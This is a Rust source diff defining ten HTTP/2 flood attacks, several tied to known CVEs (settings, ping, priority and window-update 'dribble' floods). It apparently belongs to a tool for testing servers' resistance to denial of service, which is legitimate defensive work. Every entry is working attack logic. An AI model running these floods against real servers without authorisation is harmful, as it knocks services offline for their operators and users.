@@ -1,0 +1,48 @@
+//! Frames that are cheap to send and want an answer, or change what the server must remember.
+
+use super::attack::{Answer, Attack};
+use super::frames::{Frames, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, PING, PRIORITY, WIDEST, stream};
+
+pub(super) const ATTACKS: [Attack; 10] = [
+    // CVE-2019-9515
+    Attack::flood("settings", |frames, _| frames.settings(&[])),
+    Attack::flood("settings_table_size", |frames, turn| {
+        frames.settings(&[(HEADER_TABLE_SIZE, if turn.is_multiple_of(2) { 0 } else { u32::MAX })]);
+    }),
+    // Each changes the window of every stream. In step, since a flood of them is sent away.
+    Attack::flood("settings_windows", |frames, turn| {
+        frames.settings(&[(INITIAL_WINDOW_SIZE, 1 - turn % 2)]);
+    })
+    .opened_by(|frames| wait_for_windows(frames, 32))
+    .in_step(QUIET, Answer::Ack),
+    // CVE-2019-9512
+    Attack::flood("ping", |frames, _| frames.frame(PING, 0, 0, b"anybody?")),
+    Attack::flood("ping_in_step", |frames, _| frames.frame(PING, 0, 0, b"anybody?"))
+        .in_step(QUIET, Answer::Ack),
+    // CVE-2019-9513
+    Attack::flood("priority", |frames, turn| {
+        frames.frame(PRIORITY, 0, stream(turn), &[0, 0, 0, 0, 0]);
+    }),
+    Attack::flood("unknown_frames", |frames, _| frames.frame(0x77, 0, 0, b"unknown")),
+    Attack::flood("window_updates", |frames, _| frames.window_update(0, 1)).bounded(),
+    Attack::flood("window_updates_closed_stream", |frames, _| frames.window_update(1, 1))
+        .opened_by(|frames| frames.call(1, super::frames::ECHO))
+        .bounded(),
+    // CVE-2019-9511: answers that may only leave byte by byte.
+    Attack::flood("window_dribble", |frames, turn| frames.window_update(stream(turn % STREAMS), 1))
+        .opened_by(|frames| wait_for_windows(frames, 8_000))
+        .bounded(),
+];
+
+/// Fewer than a server finds too many in one go.
+const QUIET: u32 = 150;
+
+/// Streams whose answers wait.
+const STREAMS: u32 = 600;
+
+/// Makes many calls whose answers, of so many bytes, may not be sent.
+fn wait_for_windows(frames: &mut Frames, length: usize) {
+    frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
+    frames.window_update(0, WIDEST - 65_535);
+    (0..STREAMS).for_each(|turn| frames.large_call(stream(turn), length));
+}
